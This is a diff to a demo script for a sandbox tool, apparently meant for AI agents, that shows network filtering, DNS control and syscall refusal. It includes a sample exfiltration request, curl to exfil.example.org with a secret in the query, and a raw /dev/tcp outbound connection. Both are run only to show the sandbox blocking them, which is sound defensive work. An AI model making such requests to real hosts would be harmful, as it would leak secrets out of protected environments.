@@ -53,6 +53,24 @@ step "No network: only loopback exists, and a connection out fails at once"
 show "agentbox run -- bash -c 'list interfaces; echo > /dev/tcp/1.1.1.1/443'"
 "$AB" run -- bash -c 'cut -d: -f1 /proc/net/dev | tail -n +3 | sed "s/^ */interface: /"; echo > /dev/tcp/1.1.1.1/443 && echo connected || echo "connection refused by the sandbox"'
 
+step "Only the hosts you allow: a filtering proxy, DNS answered by agentbox, every decision logged"
+mkdir -p "$demo/www" && echo "hello from api.example.test" > "$demo/www/index.html"
+python3 -u -m http.server --bind 127.0.0.1 --directory "$demo/www" 0 >"$demo/www.log" 2>&1 &
+www_pid=$!
+for _ in $(seq 50); do grep -q "port" "$demo/www.log" 2>/dev/null && break; sleep 0.1; done
+port=$(sed -n 's/.* port \([0-9]*\).*/\1/p' "$demo/www.log" | head -1)
+show "agentbox run --name net --allow api.example.test --add-host api.example.test:127.0.0.1 --allow 127.0.0.1:$port -- sh -c '...'"
+"$AB" run -q --workspace-mode ro --name net --allow api.example.test --add-host api.example.test:127.0.0.1 \
+	--allow "127.0.0.1:$port" -- sh -c "
+	echo \"allowed, through HTTP_PROXY: \$(curl -sS http://api.example.test:$port/)\"
+	echo \"denied:                     \$(curl -sS http://exfil.example.org/?key=secret)\"
+	echo \"DNS for a denied name:      \$(getent hosts exfil.example.org || echo NXDOMAIN)\"
+	echo \"a client that ignores the proxy variables: \$(curl -sS --noproxy '*' http://api.example.test:$port/)\"
+	echo \"the same client, denied:    \$(curl -sS --noproxy '*' http://exfil.example.org/ 2>&1)\""
+show "agentbox net log net"
+"$AB" net log net
+kill "$www_pid" 2>/dev/null
+
 step "Dangerous system calls are refused"
 show "agentbox run -- sh -c 'unshare -U true; mount -t tmpfs x /tmp'"
 "$AB" run -- sh -c 'unshare -U true; mount -t tmpfs x /tmp 2>&1; grep -E "^(CapEff|NoNewPrivs|Seccomp):" /proc/self/status'
